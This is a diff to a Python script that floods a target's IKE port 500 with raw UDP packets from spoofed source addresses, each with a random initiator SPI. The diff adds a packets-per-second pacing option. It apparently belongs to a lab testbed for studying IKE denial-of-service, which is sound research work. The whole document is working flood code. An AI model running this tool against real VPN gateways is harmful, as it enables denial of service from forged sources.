@@ -3,10 +3,12 @@
 fresh random initiator SPI, from spoofed source addresses, as raw IPv4/UDP packets (needs
 root; run it in the attacker's namespace).
 
-  ike_flood.py TEMPLATE_HEX DST_ADDR COUNT SOURCE [SOURCE...]
+  ike_flood.py TEMPLATE_HEX DST_ADDR COUNT PPS SOURCE [SOURCE...]
 
 TEMPLATE_HEX is the IKE message (header first) as hex; it goes to DST_ADDR:500 from port 500.
-A SOURCE is an IPv4 address, or a /N prefix from which each packet draws a random address.
+PPS paces the flood (packets per second, 0 = as fast as the socket takes them). Sources are
+used in turn; a SOURCE is an IPv4 address, or a /N prefix from which each packet draws a
+random address.
 Prints one JSON object: {"sent": COUNT, "seconds": elapsed}.
 """
 import ipaddress
@@ -36,7 +38,7 @@ def source(spec):
     return lambda: ipaddress.IPv4Address(first + random.randrange(1, size - 1)).packed
 
 
-def main(template_hex, dst, count, sources):
+def main(template_hex, dst, count, pps, sources):
     ike = bytearray(bytes.fromhex(template_hex))
     dst_b = socket.inet_aton(dst)
     pick = [source(s) for s in sources]
@@ -51,11 +53,15 @@ def main(template_hex, dst, count, sources):
         ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i & 0xFFFF, 0, 64, 17, 0, src, dst_b)
         ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
         s.sendto(ip + udp, (dst, 0))
+        if pps and i % 50 == 49:
+            ahead = start + (i + 1) / pps - time.monotonic()
+            if ahead > 0:
+                time.sleep(ahead)
     print(json.dumps({"sent": count, "seconds": round(time.monotonic() - start, 3)}), flush=True)
 
 
 if __name__ == "__main__":
     a = sys.argv[1:]
-    if len(a) < 4:
+    if len(a) < 5:
         sys.exit(__doc__)
-    main(a[0], a[1], int(a[2]), a[3:])
+    main(a[0], a[1], int(a[2]), float(a[3]), a[4:])
